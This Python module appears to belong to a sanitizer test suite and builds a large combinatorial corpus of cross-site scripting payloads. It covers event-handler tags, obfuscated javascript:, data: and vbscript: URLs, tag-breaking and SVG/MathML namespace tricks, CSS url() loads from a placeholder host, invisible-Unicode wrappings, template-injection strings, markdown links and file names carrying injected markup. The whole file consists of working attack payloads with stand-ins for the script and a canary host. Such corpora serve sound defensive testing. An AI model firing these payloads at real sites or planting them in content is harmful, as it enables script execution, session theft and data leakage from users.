"""More attacks, made of families: each way to run or load, on each thing that can carry it.

`@J` and `@U` as in `attacks.py`.
"""

from __future__ import annotations

from collections.abc import Iterator

_CARRIERS = ("img src=x", "svg", "video src=x", "details open", "input autofocus", "body")
_HAPPENINGS = (
    *("error", "load", "loadstart", "focus", "focusin", "toggle", "pointerover", "mouseenter"),
    *(
        "animationstart",
        "transitionrun",
        "beforetoggle",
        "scrollend",
        "contentvisibilityautostatechange",
    ),
)
_ADDRESSES = (
    "a href",
    "area href",
    "form action",
    "button formaction",
    "iframe src",
    "object data",
    "embed src",
)
_SPELLINGS = (
    "javascript:@J",
    "JaVaScRiPt:@J",
    " javascript:@J",
    "java&Tab;script:@J",
    "java&NewLine;script:@J",
    "&#x6A;avascript&colon;@J",
    "javascript://%0A@J",
    "data:text/html,<script>@J</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-@J+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@J'/>",
    "vbscript:@J",
    "blob:https://canary.example/@N",
)
_BREAKERS = (
    "noscript",
    "noembed",
    "noframes",
    "xmp",
    "title",
    "textarea",
    "style",
    "script",
    "template",
)
_FOREIGN = (
    "svg",
    "math",
    "svg><foreignObject",
    "math><annotation-xml encoding='text/html'",
    "svg><desc",
    "math><mi",
)
_PROPERTIES = (
    "background",
    "background-image",
    "border-image-source",
    "list-style",
    "mask-image",
    "content",
    "cursor",
)
_STYLED = (
    "url(@U/f.png)",
    "u\\72l(@U/f.png)",
    'url("@U/f.png")',
    "image-set('@U/f.png' 1x)",
    "-webkit-cross-fade(url(@U/f.png),url(@U/g.png),50%)",
)
_WRAPPINGS = (
    "\ufeff{}",
    "\u200b{}\u200d",
    "\u202e{}\u202c",
    "\u2066{}\u2069",
    "a\u0301{}",
    "\ufffe{}",
    "\U000e0001{}",
    "\u2028{}\u2029",
)
_TEMPLATES = (
    "{{@J}}",
    "${{@J}}",
    "#{{@J}}",
    "<%= @J %>",
    "{{{{@J}}}}",
    "{{% @J %}}",
    "[[@J]]",
    "*{{@J}}",
    "{{@html '<img src=x onerror=@J>'}}",
)
_MARKDOWN = (
    "[x](javascript:@J)",
    "![x](@U/m.png)",
    "[x]: javascript:@J\n[x]",
    "<javascript:@J>",
    "`<img src=x onerror=@J>`",
    "> <img src=x onerror=@J>",
    "|<img src=x onerror=@J>|\n|-|",
    "[x](data:text/html,<script>@J</script>)",
)
_NAMES = (
    '"><img src=x onerror=@J>.png',
    "'><svg onload=@J>.pdf",
    "..\\..\\<img src=x onerror=@J>",
    "x.svg#<script>@J</script>",
    "x.html;<img src=x onerror=@J>",
    "CON<img src=x onerror=@J>",
    'x" onmouseover="@J',
    "x' autofocus onfocus='@J",
    '=HYPERLINK("@U/xls")<img src=x onerror=@J>',
    "mailto:x?body=<img src=x onerror=@J>",
    "tel:<img src=x onerror=@J>",
    "https://canary.example/@N/<img src=x onerror=@J>",
)


def families() -> Iterator[str]:
    """Templates, one after the other."""
    for carrier in _CARRIERS:
        for happening in _HAPPENINGS:
            yield f"<{carrier} on{happening}=@J>"
    for address in _ADDRESSES:
        for spelling in _SPELLINGS:
            yield f'<{address}="{spelling}">x</{address.split()[0]}>'
    for outer in _BREAKERS:
        for foreign in _FOREIGN:
            yield f"<{foreign}><{outer}><p title='</{outer}><img src=x onerror=@J>'>"
    for name in _PROPERTIES:
        for styled in _STYLED:
            yield f"<p style='{name}:{styled}'>x"
    for wrapping in _WRAPPINGS:
        yield wrapping.format("<img src=x onerror=@J>")
    for template in _TEMPLATES:
        yield template.format()
    yield from _MARKDOWN
    yield from _NAMES
